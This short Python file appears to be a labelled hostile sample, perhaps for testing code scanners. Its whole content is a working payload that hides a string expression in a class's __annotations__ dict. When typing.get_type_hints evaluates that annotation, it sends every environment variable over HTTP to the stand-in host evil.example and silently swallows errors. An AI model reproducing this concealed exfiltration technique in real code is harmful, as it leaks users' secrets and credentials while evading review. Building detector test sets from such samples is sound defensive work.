# harm: exfiltrates os.environ over HTTP ; trick: class body assigns __annotations__ = {...} directly instead of using annotated statements
import typing

S = "__import__('urllib.request').request.urlopen('http://evil.example/e?d='+__import__('urllib.parse').parse.quote(repr(dict(__import__('os').environ))))"


class Settings:
    __annotations__ = {"mode": S}


try:
    typing.get_type_hints(Settings)
except Exception:
    pass
